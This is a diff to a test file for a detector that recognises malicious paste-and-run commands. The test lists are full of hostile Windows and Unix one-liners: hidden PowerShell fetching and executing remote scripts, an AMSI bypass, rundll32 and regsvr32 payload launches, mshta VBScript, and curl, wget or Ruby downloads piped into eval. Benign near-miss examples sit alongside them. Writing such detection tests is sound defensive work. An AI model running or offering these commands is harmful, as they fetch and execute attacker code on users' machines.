@@ -32,6 +32,18 @@ const WINDOWS = [
   'cmd /c start /min powershell -w h -c "$u=\'https://x.example/a\';iex(New-Object Net.WebClient).DownloadString($u)"',
   'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://10.0.0.1/a\'))"',
   '%comspec:~-16,1%%comspec:~-1%%comspec:~-13,1% /c calc',
+  // What runs, not which name: a hidden window, a scan switched off, a program run from a
+  // folder anyone writes to or from the address bar behind a comment, a download saved as a
+  // program, script from a link's scheme, PowerShell's abbreviations.
+  'powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "Get-Content a.txt"',
+  "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
+  'rundll32 C:\\Users\\Public\\Libraries\\helper.dll,Start',
+  'regsvr32 /s %APPDATA%\\x\\update.sct',
+  'C:\\Users\\Public\\Documents\\update.exe          # Windows Defender signature update',
+  'Start-BitsTransfer -Source https://cdn.example/u.exe -Destination u.exe',
+  'powershell iwr https://x.example/s.ps1 -OutFile s.ps1',
+  'mshta vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)',
+  'powershell -enco SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=',
 ];
 const TERMINAL = [
   'curl -s http://203.0.113.9/d/rob | nohup bash &',
@@ -45,6 +57,12 @@ const TERMINAL = [
   'eval "$(echo Y3VybCAtcyBodHRwOi8vNDUu | base64 -D)"',
   'zsh -c "$(printf 6375726c | xxd -r -p)"',
   'sh -c "$(echo \'Y3VybA==\' | openssl enc -base64 -d)"',
+  // A download run by the shell's substitution; a shell handed a decoder; Ruby fetching code.
+  'eval `wget -qO- https://x.example/s`',
+  '$(curl -fsSL https://x.example/s)',
+  'echo Y3VybCAtcyBodHRw | base64 -d | eval',
+  'bash -c "echo Y3VybCAtcyBodHRw | base64 -d"',
+  "ruby -e \"require 'net/http'; eval(Net::HTTP.get(URI('https://x.example/r')))\"",
 ];
 /** Install commands docs show openly: commands that fetch and run code all the same. */
 const DOCS_COMMANDS = [
@@ -89,6 +107,13 @@ const NOT_COMMANDS = [
   'Invoke-WebRequest -Uri https://example.invalid/status.json -OutFile C:\\Temp\\status.json',
   'Get-Service | Select-Object Name, Status',
   'conhost.exe',
+  // Near them: a download kept as a document, a system DLL, a program's path, a substitution
+  // whose output is only printed or kept.
+  'Invoke-WebRequest -Uri https://example.invalid/report.pdf -OutFile report.pdf',
+  'rundll32 printui.dll,PrintUIEntry /il',
+  'C:\\Program Files\\App\\app.exe',
+  'echo $(curl -s https://api.example/version)',
+  'VERSION=$(curl -s https://api.example/latest | jq -r .tag_name)',
 ];
 
 describe('the command recogniser', () => {
@@ -117,6 +142,7 @@ describe('the command recogniser', () => {
       ...readCorpus('vendor-payloads'),
       ...readCorpus('clickgrab-read'),
       ...readCorpus('clickgrab-held-out'),
+      ...readCorpus('patterns-malicious-read'),
     ];
     const commands = corpora.filter((text) => commandShell(text) !== null);
     expect(commands.length).toBeGreaterThan(60);
